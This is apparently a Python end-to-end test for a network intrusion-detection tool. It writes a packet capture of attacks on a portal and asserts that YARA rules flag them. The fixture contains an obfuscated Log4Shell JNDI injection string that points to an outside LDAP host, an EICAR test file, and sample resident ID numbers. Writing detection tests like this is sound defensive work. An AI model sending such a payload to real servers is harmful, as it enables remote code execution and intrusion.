"""End to end: a capture of attacks on a portal through ``cityshield analyze`` (a real process:
reader, decoder, flows, reassembly, parsers, the YARA detector with our pack), alerts read back
from the EVE output."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from scapy.utils import wrpcap

from tests.unit.detectors.conftest import T0, session
from tests.unit.detectors.yara.yarakit import SAMPLES, sample_bytes

EICAR = sample_bytes(SAMPLES / "CityShield_EICAR_Test_File" / "pos_eicar_com.b64")
IDS = ["440304198503121235", "310101199001014566", "11010519491231002X"]


def http_response(body: bytes, ctype: str = "application/octet-stream") -> bytes:
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def portal_capture(path: Path) -> None:
    client, portal = "203.0.113.66", "198.51.100.10"
    pkts = []
    log4shell = (
        b"GET /login HTTP/1.1\r\nHost: portal.example.gov.cn\r\n"
        b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/a}\r\n\r\n"
    )
    pkts += session(client, portal, 40001, 80, T0, client=log4shell, server=http_response(b"ok"))
    download = b"GET /files/eicar.com HTTP/1.1\r\nHost: portal.example.gov.cn\r\n\r\n"
    pkts += session(client, portal, 40002, 80, T0 + 5, client=download, server=http_response(EICAR))
    leak = json.dumps([{"name": f"c{i}", "id_no": v} for i, v in enumerate(IDS)]).encode()
    export = b"GET /api/citizens?page=1 HTTP/1.1\r\nHost: portal.example.gov.cn\r\n\r\n"
    pkts += session(
        client, portal, 40003, 80, T0 + 10, client=export,
        server=http_response(leak, "application/json"),
    )  # fmt: skip
    # In session(), the server speaks first; the order of the payloads does not matter to YARA.
    wrpcap(str(path), pkts)


def test_attacks_on_a_portal_become_yara_alerts(tmp_path: Path) -> None:
    capture = tmp_path / "portal.pcap"
    portal_capture(capture)
    eve = tmp_path / "eve.jsonl"
    env = {k: v for k, v in os.environ.items() if not k.startswith("CITYSHIELD_")}
    run = subprocess.run(
        [sys.executable, "-m", "api.cli", "analyze", str(capture), "--no-store", "--json",
         "--eve", str(eve)],
        capture_output=True, text=True, env=env, timeout=300, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    alerts = [
        doc
        for line in eve.read_text().splitlines()
        if (doc := json.loads(line)).get("event", {}).get("kind") == "alert"
        and doc["rule"]["id"].startswith("yara:")
    ]
    rules = {a["rule"]["name"] for a in alerts}
    assert {
        "CityShield_Exploit_Log4Shell_Obfuscated",
        "CityShield_EICAR_Test_File",
        "CityShield_Citizen_Resident_ID_Bulk",
    } <= rules
    log4 = next(a for a in alerts if a["rule"]["name"] == "CityShield_Exploit_Log4Shell_Obfuscated")
    assert log4["source"]["ip"] == "203.0.113.66"
    assert log4["threat"]["technique"]["id"] == ["T1190", "T1027"]
    assert log4["cityshield"]["alert"]["evidence"]["capture_file"].endswith("portal.pcap")
    leak = next(a for a in alerts if a["rule"]["name"] == "CityShield_Citizen_Resident_ID_Bulk")
    assert leak["source"]["ip"] == "198.51.100.10"  # the portal sent the records
    text = json.dumps(alerts)
    assert not any(v in text for v in IDS), "a full ID number reached an alert"
    summary = json.loads(run.stdout)
    assert summary["detectors"]["yara"]["rules"] == 20
    assert summary["detectors"]["yara"]["errors"] == 0
